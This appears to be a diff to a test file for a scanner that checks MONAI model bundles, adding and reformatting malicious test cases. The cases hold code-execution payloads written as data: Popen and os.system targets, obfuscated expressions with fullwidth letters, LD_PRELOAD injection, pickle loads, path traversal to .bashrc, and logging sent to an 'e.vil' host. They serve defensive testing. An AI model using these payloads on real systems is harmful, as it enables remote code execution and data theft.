@@ -52,9 +52,16 @@ class Payload:
 
 POPEN = {"args": ["touch", CANARY]}
 # -- targets
-config_case("target_in_the_standard_library", "target-denied", {"x": {"_target_": "subprocess.Popen", **POPEN}}, live=True)
+config_case(
+    "target_in_the_standard_library", "target-denied", {"x": {"_target_": "subprocess.Popen", **POPEN}}, live=True
+)
 config_case("target_builtin", "target-denied", {"x": {"_target_": "exec", "_mode_": "callable"}})
-config_case("target_builtin_dotted", "target-denied", {"x": {"_target_": "builtins.open", "file": CANARY, "mode": "w"}}, live=True)
+config_case(
+    "target_builtin_dotted",
+    "target-denied",
+    {"x": {"_target_": "builtins.open", "file": CANARY, "mode": "w"}},
+    live=True,
+)
 config_case(
     "target_through_an_alias_in_monai",
     "target-denied",
@@ -62,13 +69,21 @@ config_case(
     live=True,
 )
 config_case("target_through_torch", "target-denied", {"x": {"_target_": "torch.os.mkdir", "path": CANARY}}, live=True)
-config_case("target_that_locates", "target-denied", {"x": {"_target_": "monai.transforms.io.array.locate", "path": "this"}})
+config_case(
+    "target_that_locates", "target-denied", {"x": {"_target_": "monai.transforms.io.array.locate", "path": "this"}}
+)
 config_case("target_with_empty_parts", "target-unknown", {"x": {"_target_": ".subprocess..Popen", **POPEN}}, live=True)
 config_case("target_short_name_of_a_runner", "target-denied", {"x": {"_target_": "run", "config_file": "evil.json"}})
-config_case("target_runs_a_command", "target-denied", {"x": {"_target_": "run_cmd", "cmd_list": ["touch", CANARY]}}, live=True)
-config_case("target_loads_a_pickle", "target-denied", {"x": {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}})
+config_case(
+    "target_runs_a_command", "target-denied", {"x": {"_target_": "run_cmd", "cmd_list": ["touch", CANARY]}}, live=True
+)
+config_case(
+    "target_loads_a_pickle", "target-denied", {"x": {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}}
+)
 config_case("target_from_a_hub", "target-denied", {"x": {"_target_": "torch.hub.load", "repo_or_dir": "evil/evil"}})
-config_case("target_downloads", "target-denied", {"x": {"_target_": "monai.apps.download_and_extract", "url": "http://e.vil"}})
+config_case(
+    "target_downloads", "target-denied", {"x": {"_target_": "monai.apps.download_and_extract", "url": "http://e.vil"}}
+)
 config_case("target_is_a_module", "target-module", {"x": {"_target_": "monai.apps.detection.utils"}})
 config_case("target_runs_on_import", "target-denied", {"x": {"_target_": "torch.utils.bottleneck.__main__"}})
 config_case("target_elsewhere", "target-outside", {"x": {"_target_": "evilpackage.Network"}})
@@ -85,7 +100,12 @@ config_case(
     {"names": {"a": "subprocess.Popen"}, "x": {"_target_": "%names#a", **POPEN}},
     live=True,
 )
-config_case("target_by_override_key", "target-denied", {"x": {"args": ["touch", CANARY]}, "x#_target_": "subprocess.Popen"}, live=True)
+config_case(
+    "target_by_override_key",
+    "target-denied",
+    {"x": {"args": ["touch", CANARY]}, "x#_target_": "subprocess.Popen"},
+    live=True,
+)
 config_case("target_disabled", "target-denied", {"x": {"_target_": "subprocess.Popen", "_disabled_": True, **POPEN}})
 # -- what MONAI's own classes load by name
 config_case(
@@ -94,7 +114,12 @@ config_case(
     {"x": {"_target_": "LoadImage", "reader": "subprocess.Popen", **POPEN}},
     live=True,
 )
-config_case("reader_by_reference", "named-class", {"r": ["subprocess.Popen"], "x": {"_target_": "LoadImage", "reader": "@r", **POPEN}}, live=True)
+config_case(
+    "reader_by_reference",
+    "named-class",
+    {"r": ["subprocess.Popen"], "x": {"_target_": "LoadImage", "reader": "@r", **POPEN}},
+    live=True,
+)
 config_case(
     "reader_by_expression",
     "named-class",
@@ -107,15 +132,31 @@ config_case(
     {"x": f"$monai.transforms.LoadImage('sub' + 'process.Popen', args=['touch', '{CANARY}'])"},
     live=True,
 )
+config_case(
+    "reader_for_a_class_as_a_value",
+    "named-class",
+    {
+        "c": {"_target_": "LoadImage"},
+        "c#_mode_": "callable",
+        "x": f"$@c('sub' + 'process.Popen', args=['touch', '{CANARY}'])",
+    },
+    live=True,
+)
 config_case("reader_of_pickles", "unsafe-argument", {"x": {"_target_": "NumpyReader", "allow_pickle": True}})
 # -- modes
 config_case("mode_debug", "mode-debug", {"x": {"_target_": "UNet", "_mode_": "debug"}})
 config_case("mode_debug_with_blanks", "mode-debug", {"x": {"_target_": "UNet", "_mode_": " debug "}})
 config_case("mode_computed", "mode-debug", {"x": {"_target_": "UNet", "_mode_": "$'de' + 'bug'"}})
 config_case("debug_argument", "mode-debug", {"x": {"_target_": "UNet", "_debug_": True}})
-config_case("requires_with_code", "expression-name", {"x": {"_target_": "Identity", "_requires_": f"${TOUCH}"}}, live=True)
-config_case("disabled_with_code", "expression-name", {"x": {"_target_": "Identity", "_disabled_": f"${TOUCH}"}}, live=True)
-config_case("description_with_code", "expression-name", {"x": {"_target_": "Identity", "_desc_": f"${TOUCH}"}}, live=True)
+config_case(
+    "requires_with_code", "expression-name", {"x": {"_target_": "Identity", "_requires_": f"${TOUCH}"}}, live=True
+)
+config_case(
+    "disabled_with_code", "expression-name", {"x": {"_target_": "Identity", "_disabled_": f"${TOUCH}"}}, live=True
+)
+config_case(
+    "description_with_code", "expression-name", {"x": {"_target_": "Identity", "_desc_": f"${TOUCH}"}}, live=True
+)
 # -- expressions
 EXPRESSIONS = {
     "import": ("expression-name", f"__import__('os').system('{SYSTEM}')", True),
@@ -128,8 +169,9 @@ EXPRESSIONS = {
     "module_in_a_list": ("expression-module", f"[torch][0].os.system('{SYSTEM}')", True),
     "module_to_a_lambda": ("expression-module", f"(lambda m: m.os.system('{SYSTEM}'))(torch)", True),
     "default_of_a_lambda": ("expression-module", f"(lambda m=torch: m.os.system('{SYSTEM}'))()", True),
-    "map": ("expression-name", f"list(map(eval, [\"{TOUCH}\"]))", True),
+    "map": ("expression-name", f'list(map(eval, ["{TOUCH}"]))', True),
     "format": ("expression-attribute", "'{0.__init__.__globals__}'.format(torch.device)", False),
+    "setattr": ("expression-name", "setattr(torch.nn.Module, 'forward', print)", False),
     "walrus": ("expression-node", "(x := 10**8)", False),
     "power": ("expression-size", "9**9**9", False),
     "shift": ("expression-size", "1 << 10**10", False),
@@ -143,16 +185,37 @@ EXPRESSIONS = {
     "leading_blank": ("expression-syntax", f" {TOUCH}", False),
     "string_that_becomes_code": ("expression-name", "'@f {" + TOUCH.replace("'", '"') + "} '", True),
     "own_references": ("expression-name", "__local_refs['f']", False),
+    "package_as_a_value": ("expression-module", "torch.nn", False),
+    "package_of_another": ("expression-attribute", "monai.metrics.fid.scipy", False),
+    "environment": ("expression-call", "os.environ.update({'LD_PRELOAD': 'evil.so'})", False),
+    "module_of_a_module": ("expression-call", f're.enum.bltns.eval("{TOUCH}")', True),
+    "path_of_a_path": ("expression-call", f"os.path.os.system('{SYSTEM}')", True),
+    "fullwidth_letters": ("expression-call", f"os.\uff53ystem('{SYSTEM}')", True),
+    "fullwidth_references": ("expression-name", "\uff3f\uff3flocal_refs['f']", False),
+    "instance_of_a_module": ("expression-call", "monai.data.image_reader.logger.manager.setLoggerClass(int)", False),
     "star_arguments": ("expression-node", "monai.transforms.Compose(**{'transforms': []})", False),
     "unlink": ("expression-attribute", "@bundle_root.unlink()", False),
-}  # fmt: skip
+}
 for _name, (_code, _text, _live) in EXPRESSIONS.items():
-    config_case(f"expression_{_name}", _code, {"f": 1, "x": f"${_text}"}, live=_live)
-config_case("import_of_os_as_torch", "expression-import", {"i": "$import os as torch", "x": f"$torch.system('{SYSTEM}')"}, live=True)
+    _imports = ["$import os", "$import re"]
+    config_case(f"expression_{_name}", _code, {"f": 1, "i": _imports, "x": f"${_text}"}, live=_live)
+config_case(
+    "import_of_os_as_torch",
+    "expression-import",
+    {"i": "$import os as torch", "x": f"$torch.system('{SYSTEM}')"},
+    live=True,
+)
 config_case("import_of_subprocess", "expression-import", {"i": "$import subprocess"})
-config_case("import_of_a_function", "expression-import", {"i": "$from os import system", "x": f"$system('{SYSTEM}')"}, live=True)
+config_case(
+    "import_of_a_function", "expression-import", {"i": "$from os import system", "x": f"$system('{SYSTEM}')"}, live=True
+)
 config_case("import_that_hides_one", "expression-import", {"i": "$import math, subprocess"})
-config_case("reference_to_an_import", "reference-import", {"i": ["$import torch"], "x": f"$@i#0.os.system('{SYSTEM}')"}, live=True)
+config_case(
+    "reference_to_an_import",
+    "reference-import",
+    {"i": ["$import torch"], "x": f"$@i#0.os.system('{SYSTEM}')"},
+    live=True,
+)
 config_case("reference_above_the_root", "reference-outside", {"x": {"y": "@####z"}})
 config_case("macro_to_another_file", "macro-outside", {"x": "%/etc/secrets.json#key"})
 config_case("macro_with_dots", "macro-outside", {"x": "%../other/configs/train.json"})
@@ -173,6 +236,12 @@ def import_in_a_channel_name() -> Files:
 @case("macro-outside")
 def label_that_is_a_macro() -> Files:
     return make_files(metadata={"label_classes": "%/etc/labels.json#0"})
+
+
+@case("metadata-sign")
+def label_that_is_a_reference() -> Files:
+    format_ = {"outputs": {"pred": {"channel_def": {"0": "background", "1": "@run"}}}}
+    return make_files(metadata={"network_data_format": format_})
 
 
 @case("ambiguous-key")
@@ -272,7 +341,10 @@ def config_not_in_utf8() -> Files:
 
 @case("config-syntax")
 def number_of_a_million_digits() -> Files:
-    return {**make_files(), "configs/digits.json": b'{"x": 1' + bytes(random.Random(0).choices(b"123456789", k=900_000)) + b"}"}
+    return {
+        **make_files(),
+        "configs/digits.json": b'{"x": 1' + bytes(random.Random(0).choices(b"123456789", k=900_000)) + b"}",
+    }
 
 
 # -- hidden code
@@ -289,8 +361,9 @@ CODE: dict[str, tuple[str, bytes]] = {
     "docs/table.dat": ("pickle-file", pickle.dumps(Payload())),
     "docs/archive.zip": ("nested-archive", b"PK\x05\x06" + bytes(18)),
     "docs/archive.tar.gz": ("nested-archive", b"\x1f\x8b\x08"),
+    "docs/picture.png": ("unknown-file", b"PK\x03\x04"),
     "docs/thing.xyz": ("unknown-file", b"x"),
-}  # fmt: skip
+}
 for _path, (_code, _content) in CODE.items():
     CASES[f"file_{_path}"] = (lambda path=_path, content=_content: {**make_files(), path: content}, _code)
 
@@ -378,11 +451,21 @@ def bytes_that_belong_to_nobody() -> Files:
 
 # -- downloads
 DOWNLOADS = {
-    "insecure-url": {"url": "http://e.vil/m.pt", "path": "models/model.pt", "hash_val": "a" * 64, "hash_type": "sha256"},
+    "insecure-url": {
+        "url": "http://e.vil/m.pt",
+        "path": "models/model.pt",
+        "hash_val": "a" * 64,
+        "hash_type": "sha256",
+    },
     "url-without-hash": {"url": "https://e.vil/m.pt", "path": "models/model.pt"},
     "weak-hash": {"url": "https://e.vil/m.pt", "path": "models/model.pt", "hash_val": "a" * 32, "hash_type": "md5"},
-    "download-path": {"url": "https://e.vil/m.pt", "path": "../../.bashrc", "hash_val": "a" * 64, "hash_type": "sha256"},
-}  # fmt: skip
+    "download-path": {
+        "url": "https://e.vil/m.pt",
+        "path": "../../.bashrc",
+        "hash_val": "a" * 64,
+        "hash_type": "sha256",
+    },
+}
 for _code, _entry in DOWNLOADS.items():
     CASES[f"download_{_code}"] = (
         lambda entry=_entry: {**make_files(), "large_files.yml": json.dumps({"large_files": [entry]}).encode()},
@@ -407,10 +490,45 @@ PRIVATE: dict[str, tuple[str, bytes]] = {
     "configs/train.log": ("output-file", b"epoch 1\n"),
     "models/events.out.tfevents.1": ("output-file", b"x"),
     "models/image.npy": ("array-file", b"\x93NUMPY\x01\0v\0{'descr': '<f4', 'fortran_order': False, 'shape': (1,)}"),
-}  # fmt: skip
+}
 for _path, (_code, _content) in PRIVATE.items():
     CASES[f"private_{_path}"] = (lambda path=_path, content=_content: {**make_files(), path: content}, _code)
 config_case("absolute_path_in_a_config", "absolute-path", {"dataset_dir": "/workspace/data"})
+
+
+# -- what a person must look at
+config_case("argument_that_is_a_program", "code-path", {"x": {"_target_": "CSVSaver", "filename": "sitecustomize.py"}})
+config_case("address_in_a_config", "url-in-config", {"x": {"_target_": "CSVDataset", "src": "https://e.vil/x.csv"}})
+config_case("class_that_deletes", "target-review", {"x": {"_target_": "PersistentDataset", "cache_dir": "data"}})
+config_case("weights_of_others", "download-argument", {"x": {"_target_": "DenseNet121", "pretrained": True}})
+config_case("macro_to_a_file", "macro-file", {"x": "%configs/train.json#run"})
+config_case("files_of_the_receiver", "expression-review", {"i": "$import glob", "x": "$glob.glob('/etc/*')"})
+
+
+@case("logging-review")
+def logging_over_the_network() -> Files:
+    text = LOGGING.replace("class=StreamHandler", "class=logging.handlers.HTTPHandler")
+    text = text.replace("(sys.stdout,)", "('e.vil', '/')")
+    return {**make_files(), "configs/logging.conf": text.encode()}
+
+
+@case("not-a-bundle")
+def folder_without_configs() -> Files:
+    return {"README.md": b"x", "train.json": b"{}"}
+
+
+@case("metadata-field")
+def metadata_without_a_use() -> Files:
+    return make_files(metadata={"intended_use": ""})
+
+
+@case("weights-damaged")
+def weights_with_two_pickles() -> Files:
+    content = zip_members(data_pkl=pickle.dumps({}, protocol=2), DATA_PKL=b"x")
+    return {
+        **make_files(),
+        "models/model.pt": content.replace(b"DATA.pkl", b"DATA.PKL").replace(b"DATA_PKL", b"DATA.PKL"),
+    }
 
 
 # -- wheels
@@ -431,6 +549,12 @@ def wheel_of_another_package() -> Files:
 def wheel_with_a_stranger() -> Files:
     content = make_wheel(pipeline__issues_py=b"", sitecustomize_py=TOUCH.encode())
     return {**make_files(), "monai_segmentation_suite-0.1.0-py3-none-any.whl": content}
+
+
+@case("wheel-version")
+def wheel_of_another_version() -> Files:
+    content = make_wheel(pipeline__issues_py=b"")
+    return {**make_files(), "monai_segmentation_suite-99.0-py3-none-any.whl": content}
 
 
 @case("wheel-differs")
